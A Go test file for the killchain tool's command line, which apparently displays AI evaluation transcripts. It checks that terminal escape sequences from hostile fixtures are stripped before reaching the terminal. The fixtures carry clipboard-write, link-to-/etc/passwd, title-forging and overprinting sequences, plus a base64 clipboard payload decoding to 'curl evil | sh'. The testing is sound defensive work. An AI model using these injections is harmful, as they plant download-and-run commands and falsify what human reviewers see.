package cli

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/killchain/killchain/internal/sanitize/hostile"
)

// The hostile fixtures: a study folder whose run lines and transcript carry
// terminal escape sequences (an OSC 52 clipboard write, an OSC 8 link to
// file:///etc/passwd, a title change, ESC[2K\r overprinting "executed no")
// in the model name, narration, thinking, a run_shell call and its output,
// provider errors and the verdict; and a study file whose task carries them
// in its description, system prompt and payload.
const (
	hostileFolder = "testdata/hostile/study"
	hostileStudy  = "testdata/hostile/study.hcl"
)

// ownStyle is an escape sequence show itself writes in color (runview's
// styles); every other ESC is hostile.
var ownStyle = regexp.MustCompile(`\x1b\[(0|1|1;7;31|31|36)m`)

// checkNoEscapes fails when out holds a control character a terminal acts
// on: anything but newline and tab, past show's own styles.
func checkNoEscapes(t *testing.T, what, out string) {
	t.Helper()
	rest := ownStyle.ReplaceAllString(out, "")
	for i, r := range rest {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f {
			t.Errorf("%s: %U reaches the terminal: %q", what, r, rest[max(0, i-40):min(len(rest), i+40)])
			return
		}
	}
}

func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	tests := []struct {
		name string
		args []string
		code int
		want []string // what must show, as text
	}{
		{"show", []string{"show", hostileFolder, "hostile-1"}, exitOK,
			[]string{`Reading the page now.\x1b]52;c;`, `run_shell(command=cat notesexecuted yes\x1b[2K\x0dexecuted no)`,
				`\x1b]8;;file:///etc/passwd`, `compliant\x1b]0;all tests passed\x07`, `provider error: 502 \x1b]8;;`}},
		{"show in color", []string{"show", "--color", "always", hostileFolder, "hostile-1"}, exitOK,
			[]string{"\x1b[1;7;31mSECRET-0A1B2C3D\x1b[0m", `I will read the page.\x1b]0;all tests passed\x07`}},
		{"show an errored run", []string{"show", hostileFolder, "hostile-2"}, exitOK,
			[]string{`provider error: 400 \x1b]52;c;`, `executed yes\x1b[2K\x0dexecuted no`}},
		{"tasks", []string{"tasks", hostileStudy}, exitOK,
			[]string{`Reads a page.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;all tests passed\x07\x1b[2K\x0dexecuted no`}},
		{"tasks show", []string{"tasks", "show", "--study", hostileStudy, "hostile_task"}, exitOK, nil},
		{"tasks show --resolved", []string{"tasks", "show", "--resolved", "--study", hostileStudy, "hostile_task"}, exitOK, nil},
		{"plan --show", []string{"plan", "--show", "g/hostile_task/direct/compliant/hack/none", hostileStudy}, exitOK,
			[]string{`purchasing assistant.\x1b]8;;file:///etc/passwd`, `\x1b[2K\x0dexecuted no\u009b2K`}},
		{"an error message", []string{"report", "testdata/hostile/no such folder\x1b]0;owned\x07\x1b[2K\r"}, exitFailed,
			[]string{`no such folder\x1b]0;owned\x07\x1b[2K\x0d`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, stdout, stderr := killchain(tc.args...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d\n%s%s", code, tc.code, stdout, stderr)
			}
			checkNoEscapes(t, "stdout", stdout)
			checkNoEscapes(t, "stderr", stderr)
			for _, w := range tc.want {
				if !strings.Contains(stdout+stderr, w) {
					t.Errorf("output lacks %q:\n%s%s", w, stdout, stderr)
				}
			}
		})
	}
}

// TestConsoleSanitisesTheHostileCorpus: every text of the shared corpus
// written to the console (log lines, notes and errors), on a terminal
// showing a bar and off one, comes out with no control character but
// newline and tab, and the bar's own line-clearing escape intact.
func TestConsoleSanitisesTheHostileCorpus(t *testing.T) {
	for _, h := range hostile.Corpus() {
		t.Run(h.Name, func(t *testing.T) {
			var plain bytes.Buffer
			newConsole(&plain).Write([]byte("note: " + h.Text + "\n"))
			checkNoEscapes(t, "plain", plain.String())

			var tty bytes.Buffer
			c := newTerminal(&tty, 80)
			c.bar().Write([]byte("\rruns 1/2"))
			c.Write([]byte("note: " + h.Text + "\n"))
			got := strings.ReplaceAll(strings.ReplaceAll(tty.String(), clearLine, ""), "\rruns 1/2", "")
			checkNoEscapes(t, "terminal", got)
			if !strings.Contains(tty.String(), clearLine+"note: ") {
				t.Errorf("the bar's line was not cleared before the note: %q", tty.String())
			}
		})
	}
}
